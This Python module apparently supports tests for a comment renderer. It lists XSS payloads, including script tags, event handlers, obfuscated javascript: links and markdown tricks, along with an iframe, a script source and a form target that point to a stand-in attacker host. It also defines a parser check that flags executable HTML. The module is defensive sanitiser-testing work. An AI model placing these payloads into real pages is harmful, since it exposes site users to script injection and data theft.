"""Payloads that must never come back executable, and the check that says whether rendered HTML is."""

import re
from html.parser import HTMLParser

from services.comments.domain import ALLOWED_TAGS

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<svg onload=alert(1)>',
    '<a href="javascript:alert(1)">klikk</a>',
    "[klikk](javascript:alert(1))",
    "[klikk](JaVaScRiPt:alert(1))",
    "[klikk](java\tscript:alert(1))",
    "[klikk](&#106;avascript:alert(1))",
    "[klikk](vbscript:msgbox(1))",
    "[klikk](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![bilde](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '[x](https://ok.example"onmouseover="alert(1))',
    "<iframe src=https://evil.example></iframe>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name=q></form>',
    "[a]: javascript:alert(1)\n\n[lenke][a]",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    '<a href="https://ok.example" onclick="alert(1)">x</a>',
    "<object data=javascript:alert(1)></object>",
    "<!-- --><script>alert(1)</script>",
]


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))


def executable(html: str) -> list[str]:
    """What in rendered HTML could run script or load content: unknown tags, handlers, styles, or links with a
    scheme other than http(s)/mailto (checked after entity decoding, as a browser would)."""
    parser = _Elements()
    parser.feed(html)
    problems = []
    for tag, attrs in parser.found:
        if tag not in ALLOWED_TAGS:
            problems.append(f"tag {tag}")
        for name, value in attrs:
            if name not in ("href", "rel", "start"):
                problems.append(f"attribute {name}")
            scheme = re.match(r"^\s*([a-z][a-z0-9+.\-]*):", "".join((value or "").split()).lower())
            if name == "href" and scheme and scheme.group(1) not in ("http", "https", "mailto"):
                problems.append(f"href {value}")
    return problems
